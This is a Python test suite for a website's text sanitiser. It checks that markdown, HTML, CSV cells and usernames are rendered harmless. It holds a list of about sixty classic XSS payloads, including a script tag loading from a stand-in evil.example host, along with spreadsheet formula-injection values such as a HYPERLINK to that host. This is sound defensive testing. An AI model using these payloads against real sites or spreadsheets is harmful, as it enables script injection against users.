"""Text is made safe: nothing that was typed or imported runs, breaks a page or a spreadsheet."""

import csv
import io
import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from community.kit import text

TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "dl", "dt", "em", "h3", "h4", "h5",
    "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "strike", "strong", "sub", "sup", "table",
    "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "start"}
SCHEMES = {"http", "https", "mailto", ""}
XSS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<img src=x onerror=alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mi//xlink:href="javascript:alert(1)">x</mi></math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example" onclick="alert(1)">x</a>
<a href="x" style="background:url(javascript:alert(1))">x</a>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex action="javascript:alert(1)" type=image>
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<base href="javascript:alert(1)//">
<table background="javascript:alert(1)"><tr><td>x</table>
<div style="width:expression(alert(1))">x</div>
<p id="x" onmouseover="alert(1)">x</p>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<template><img src=x onerror=alert(1)></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
"><img src=x onerror=alert(1)>
'"--></style></script><script>alert(1)</script>
<h1 onclick=alert(1)>x</h1><h2><script>alert(1)</script></h2>
[x](javascript:alert(1))
[x](<java\nscript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](javascript:alert(1))
![x" onerror="alert(1)](x)
[x](https://a.example "x\" onmouseover=\"alert(1)")
<https://a.example/"onmouseover="alert(1)>
<javascript:alert(1)>
[a]: javascript:alert(1)\n\n[a]
```"><img src=x onerror=alert(1)>\nx\n```
""".strip().split("\n")
XSS = [each.encode().decode("unicode_escape") for each in XSS]


class Watch(HTMLParser):
    """Collects what a browser would see in a text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.bad.append((tag, name))
            if name == "href" and _scheme(value or "") not in SCHEMES:
                self.bad.append((tag, value))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.bad.append(("comment", data))

    handle_decl = handle_pi = unknown_decl = handle_comment


def _scheme(address):
    # As browsers do: tabs, line ends and leading blanks are not there.
    kept = re.sub(r"[\t\r\n]", "", address).lstrip("".join(map(chr, range(33))))
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", kept)
    return found[1].lower() if found else ""


def runs(rendered):
    watch = Watch()
    watch.feed(rendered)
    watch.close()
    return watch.bad


odd = st.text(
    st.one_of(st.characters(), st.sampled_from("<>&\"'`[]()!*_#-=:/\\\n\x00\u202e\ud800"))
)
pieces = st.lists(st.one_of(st.sampled_from(XSS), odd), max_size=4).map("".join)


def test_there_are_enough_classic_payloads():
    assert len(XSS) >= 50


@pytest.mark.parametrize("payload", XSS)
@pytest.mark.parametrize("made_safe", [text.markdown, text.sanitise, text.paragraphs])
def test_no_classic_payload_runs(made_safe, payload):
    assert runs(made_safe(payload)) == []
    assert runs(made_safe(f"> {payload}\n\n- {payload}\n\n| {payload} |\n|-|\n| {payload} |")) == []


@pytest.mark.parametrize("payload", XSS)
def test_the_watch_sees_what_would_run(payload):
    if payload.lstrip("'\"").startswith("<") and "CDATA" not in payload:
        assert runs(payload) != [] or "https://a.example" in payload


@settings(max_examples=400, deadline=None)
@given(pieces)
def test_whatever_was_typed_is_harmless(typed):
    for made_safe in (text.markdown, text.sanitise, text.paragraphs):
        rendered = made_safe(typed)
        assert runs(rendered) == []
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", rendered)
        rendered.encode()


@settings(max_examples=200, deadline=None)
@given(pieces)
def test_what_is_safe_stays_as_it_is(typed):
    once = text.sanitise(typed)
    assert text.sanitise(once) == once


@settings(max_examples=300)
@given(odd, st.integers(0, 300))
def test_a_line_is_one_clean_line(typed, most):
    found = text.line(typed, most)
    assert len(found) <= most
    assert found == " ".join(found.split())
    assert not set(found) & set("\x00\n\r\t\u202e\u2066\u200b\ufeff")
    found.encode()


@settings(max_examples=300)
@given(odd)
def test_a_handle_is_always_plain(name):
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", text.handle(name))
    assert len(text.handle(name)) <= 40


@settings(max_examples=200)
@given(pieces, st.integers(0, 200))
def test_plain_words_have_no_tags(typed, most):
    assert len(text.plain(text.markdown(typed), most)) <= most


def test_markdown_stays_useful():
    typed = (
        "# Hello\n\n**bold** *soft* ~~gone~~ `code` and [a page](https://example.org/?a=1&b=2)\n\n"
        "1. one\n2. two\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```\n"
    )
    rendered = text.markdown(typed)
    for wanted in (
        "<h3>Hello</h3>", "<strong>bold</strong>", "<em>soft</em>", "<s>gone</s>",
        "<code>code</code>", 'href="https://example.org/?a=1&amp;b=2"', "<ol>", "<blockquote>",
        "<table>", "x &lt; y", 'rel="nofollow ugc noopener noreferrer"',
    ):  # fmt: skip
        assert wanted in rendered


def test_raw_html_is_shown_as_text():
    assert "&lt;b&gt;x&lt;/b&gt;" in text.markdown("<b>x</b>")


def test_headings_never_stand_above_the_page_s_own():
    assert (
        text.sanitise("<h1>a</h1><h2>b</h2><H1 class=x>c</H1>") == "<h3>a</h3><h3>b</h3><h3>c</h3>"
    )


def test_paragraphs_keep_lines():
    assert text.paragraphs("a\nb\n\n\n<c>\r\nd") == "<p>a<br>b</p><p>&lt;c&gt;<br>d</p>"
    assert text.paragraphs("  \n\n ") == ""


@pytest.mark.parametrize(
    "hard",
    [
        "[" * 50_000,
        "> " * 20_000 + "x",
        "*a " * 30_000,
        "`" * 99_999,
        "<" * 100_000,
        "&" * 100_000,
        "<b>" * 30_000,
        "- " * 20_000,
        "![](" * 20_000,
        "|" * 50_000 + "\n" + "|-" * 25_000,
        "a\n" * 50_000,
        "1" * 200_000,
        "_" * 100_000,
        "[a](" * 20_000 + "x",
    ],
    ids=lambda hard: hard[:4] + "…",
)
def test_hard_texts_take_little_time(hard):
    begun = time.process_time()
    assert runs(text.markdown(hard)) == []
    assert runs(text.sanitise(hard)) == []
    assert time.process_time() - begun < 3


@pytest.mark.parametrize(
    ("value", "kept"),
    [
        ("=1+1", "'=1+1"),
        ("+49 170", "'+49 170"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("\ufeff=1", "'\ufeff=1"),
        ("＝1", "'＝1"),
        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        ("", ""),
        (-2, -2),
        (None, None),
        (True, True),
    ],
)
def test_no_cell_is_a_formula(value, kept):
    assert text.cell(value) == kept


@settings(max_examples=300)
@given(odd)
def test_whatever_is_a_cell_reads_as_text(value):
    if "\ud800" <= max(value, default="") <= "\udfff":
        value = text.clean(value)
    out = io.StringIO()
    csv.writer(out).writerow([text.cell(value)])
    first = out.getvalue().lstrip('"')[:1]
    assert first not in tuple("=+-@\t")


def test_a_link_s_scheme_is_one_that_can_be_followed():
    rendered = text.markdown("[a](https://x.example) [b](mailto:a@x.example) [c](ftp://x.example)")
    found = re.findall(r'href="([^"]+)"', rendered)
    assert [urlsplit(each).scheme for each in found] == ["https", "mailto"]
